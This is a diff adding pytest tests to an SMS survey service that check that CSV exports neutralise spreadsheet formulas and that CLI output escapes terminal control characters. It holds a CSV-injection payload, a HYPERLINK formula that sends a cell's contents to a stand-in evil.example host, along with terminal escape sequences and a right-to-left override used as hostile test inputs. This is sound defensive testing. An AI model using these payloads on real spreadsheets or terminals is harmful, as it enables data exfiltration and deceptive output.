@@ -296,3 +296,99 @@ def test_results_on_a_new_sqlite_database_migrate_it_as_serve_does(tmp_path: Pat
     data = json.loads(result.stdout)
     assert [(t["option"], t["votes"]) for t in data["results"]["tally"]] == [("A", 0), ("B", 0)]
     assert data["events"] == 0
+
+
+OPINION = """
+id = "opinia"
+kind = "survey"
+numbers = ["70120"]
+keywords = ["OPINIA"]
+[[survey.steps]]
+id = "comment"
+type = "text"
+ask = "Co poprawić?"
+[replies]
+done = "Dziękujemy!"
+"""
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+ESCAPES = "red \x1b[31mALERT\x1b]0;owned\x07 \u202eaxe"
+
+
+@pytest.fixture
+async def answered(database_url: str, tmp_path: Path) -> AsyncIterator[Service]:
+    flows = write_flows(tmp_path / "flows", opinia=OPINION)
+    async with running(make_settings(database_url, flows_dir=str(flows))) as svc:
+        for sender, answer in [("48600000001", FORMULA), ("48600000002", ESCAPES), ("48600000003", "-5")]:
+            await send_mo(svc, sender=sender, text="OPINIA")
+            await send_mo(svc, sender=sender, text=answer)
+        yield svc
+
+
+async def test_export_writes_formula_looking_answers_as_text(answered: Service, tmp_path: Path) -> None:
+    settings = answered.settings
+    target = tmp_path / "answers.csv"
+    result = await arun_cli(
+        "export", "opinia", "--csv", str(target), cwd=tmp_path, database_url=settings.database_url,
+        flows_dir=settings.flows_dir,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    values = {r["sender"]: r["value"] for r in csv.DictReader(target.open(encoding="utf-8"))}
+    assert values["48600000001"] == "'" + FORMULA  # shown as typed, never run
+    assert values["48600000003"] == "-5"  # a number is no formula
+    assert values["48600000002"] == ESCAPES  # a file keeps the data as stored
+
+
+def test_cells_a_spreadsheet_would_run_get_an_apostrophe() -> None:
+    from app.reads.csv_cells import spreadsheet_safe
+
+    for text in ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", " =1", "＝1"]:
+        assert spreadsheet_safe(text) == "'" + text
+    for text in ["Anna", "48600123456", "+48600123456", "-5", "1,5", "a=b", ""]:
+        assert spreadsheet_safe(text) == text
+
+
+def _in_a_terminal(*args: str, cwd: Path, **settings: str) -> str:
+    """What the command prints when its standard output is a terminal."""
+    import pty
+
+    env = {**os.environ, "COLUMNS": "250", **{f"SMSFLOWS_{k.upper()}": v for k, v in settings.items()}}
+    leader, follower = pty.openpty()
+    with subprocess.Popen(
+        [sys.executable, "-m", "app.cli", *args], env=env, cwd=cwd, stdout=follower, stderr=subprocess.PIPE
+    ) as proc:
+        os.close(follower)
+        out = b""
+        while True:
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:  # the terminal closes with the process
+                break
+            if not chunk:
+                break
+            out += chunk
+        proc.wait(timeout=60)
+    os.close(leader)
+    assert proc.returncode == 0, proc.stderr.read() if proc.stderr else ""
+    return out.decode()
+
+
+async def test_results_and_export_show_control_characters_as_escapes(
+    answered: Service, tmp_path: Path
+) -> None:
+    settings = answered.settings
+    where = {"database_url": settings.database_url, "flows_dir": settings.flows_dir}
+    results = await arun_cli("results", "opinia", cwd=tmp_path, **where)
+    assert results.returncode == 0, results.stderr
+    exported = await asyncio.to_thread(
+        _in_a_terminal, "export", "opinia", "--csv", "-", cwd=tmp_path, **where
+    )
+    for shown in (results.stdout, exported):
+        assert "\x1b]0;owned" not in shown and "\x1b[31mALERT" not in shown and "\u202e" not in shown
+        assert "\\x1b[31mALERT" in shown and "\\u202eaxe" in shown
+
+
+def test_printable_writes_out_controls_and_keeps_line_breaks() -> None:
+    from app.cli.terminal import printable
+
+    assert printable("a\x1b[2Jb\rc\x9bd\u2066e") == "a\\x1b[2Jb\\x0dc\\x9bd\\u2066e"
+    assert printable("zażółć\nTAK 👍🏽") == "zażółć\nTAK 👍🏽"
